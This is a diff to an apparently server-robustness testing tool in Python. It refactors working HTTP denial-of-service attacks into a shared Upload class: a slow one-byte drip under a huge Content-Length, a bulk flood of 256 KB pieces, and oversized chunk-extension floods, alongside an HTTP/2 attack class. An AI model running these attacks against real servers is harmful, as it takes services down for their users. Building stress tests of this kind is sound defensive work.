@@ -21,8 +21,6 @@ import time
 import hpack
 
 HEAD = b"POST /up HTTP/1.1\r\nHost: attack\r\n"
-PIECE = bytes(1 << 18)
-EXTENSIONS = (b"1;" + b"e" * 4000 + b"\r\nx\r\n") * 64
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
@@ -95,38 +93,34 @@ class Attack:
             await asyncio.gather(*tasks, return_exceptions=True)
 
 
-class Drip(Attack):
+class Upload(Attack):
+    """An upload over HTTP/1.1: what it begins with, a piece that is sent again and again, how many seconds lie between."""
+
+    start, piece, pause = b"", b"", 0
+
     async def attack(self):
-        await self.send(HEAD + b"Content-Length: 1000000000\r\n\r\n")
+        await self.send(HEAD + self.start)
         self.sums.requests += 1
-        await self.until_reset(self.drip(), self.read())
+        await self.until_reset(self.go_on(), self.read())
 
-    async def drip(self):
+    async def go_on(self):
         while True:
-            await asyncio.sleep(1)
-            await self.send(b"x")
+            if self.pause:
+                await asyncio.sleep(self.pause)
+            await self.send(self.piece)
 
 
-class Flood(Attack):
-    async def attack(self):
-        await self.send(HEAD + b"Content-Length: 1000000000000\r\n\r\n")
-        self.sums.requests += 1
-        await self.until_reset(self.flood(), self.read())
-
-    async def flood(self):
-        while True:
-            await self.send(PIECE)
+class Drip(Upload):
+    start, piece, pause = b"Content-Length: 1000000000\r\n\r\n", b"x", 1
 
 
-class Extensions(Attack):
-    async def attack(self):
-        await self.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n800\r\n" + bytes(2048) + b"\r\n")
-        self.sums.requests += 1
-        await self.until_reset(self.flood(), self.read())
+class Flood(Upload):
+    start, piece = b"Content-Length: 1000000000000\r\n\r\n", bytes(1 << 18)
 
-    async def flood(self):
-        while True:
-            await self.send(EXTENSIONS)
+
+class Extensions(Upload):
+    start = b"Transfer-Encoding: chunked\r\n\r\n800\r\n" + bytes(2048) + b"\r\n"
+    piece = (b"1;" + b"e" * 4000 + b"\r\nx\r\n") * 64
 
 
 class Http2(Attack):
